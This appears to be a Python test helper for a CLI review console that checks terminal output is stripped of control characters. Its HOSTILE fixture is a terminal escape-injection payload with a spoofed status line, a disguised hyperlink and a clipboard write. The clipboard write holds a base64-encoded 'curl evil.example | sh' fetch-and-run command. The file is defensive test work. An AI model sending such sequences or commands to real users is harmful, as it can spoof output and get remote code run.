"""The reviewer's console: prompts answered from a script, the characters a terminal must never get raw, and a bad
argument's refusal."""

from __future__ import annotations

import argparse
from collections.abc import Iterator
from typing import Any

import pytest
from kanal import terminal
from kanal_cli.cli import main

C0 = [chr(c) for c in range(0x20) if chr(c) not in "\n\t"]
C1 = [chr(c) for c in range(0x7F, 0xA0)]  # DEL and C1
BIDI = sorted(terminal.BIDI_CONTROLS)
#: What a terminal must never get raw: C0 but newline and tab, DEL, C1, bidi controls.
DANGEROUS = frozenset(C0 + C1 + BIDI)
#: An attacker's description: clear screen, title, a fake green kanal line, carriage returns, OSC 8, OSC 52, bidi.
HOSTILE = (
    "\x1b[2J\x1b[H"
    "\x1b]0;kanal: all clear\x07"
    "\x1b[32mkanal: case verified by lead, decide removed\x1b[0m\r"
    "\x1b]8;;https://evil.example/\x1b\\https://www.bawaslu.go.id/\x1b]8;;\x1b\\"
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    "\u202eremoved\u202c \u2066x\u2069 \x9b31m \x7f"
    "\nline two\ttabbed\r\nline three"
)


class Script:
    """Answers prompts from a list; ends the loop like Ctrl-D when it runs out."""

    def __init__(self, *answers: str) -> None:
        self.answers: Iterator[str] = iter(answers)
        self.shown: list[str] = []

    def ask(self, prompt: str) -> str:
        self.shown.append(prompt)
        try:
            return next(self.answers)
        except StopIteration:
            raise EOFError from None

    def out(self, line: str) -> None:
        self.shown.append(line)


def args(**values: Any) -> argparse.Namespace:
    """The parsed arguments of `kanal review` (reviewer-a, no wait), with ``values``."""
    return argparse.Namespace(**{"reviewer": "reviewer-a", "wait": 0, **values})


def refused_in_one_line(capsys: pytest.CaptureFixture[str], argv: list[str]) -> str:
    """`kanal --table-name kanal-test ARGV` refused as a bad argument is: exit 2, nothing on stdout, one line on
    stderr (no traceback, no character a terminal obeys); that line."""
    code = main(["--table-name", "kanal-test", *argv])
    out, err = capsys.readouterr()
    assert code == 2, (argv, err)
    assert out == ""
    assert err.count("\n") == 1, err
    assert err.startswith("kanal: "), err
    assert "Traceback" not in err
    assert not DANGEROUS & set(err)
    return err
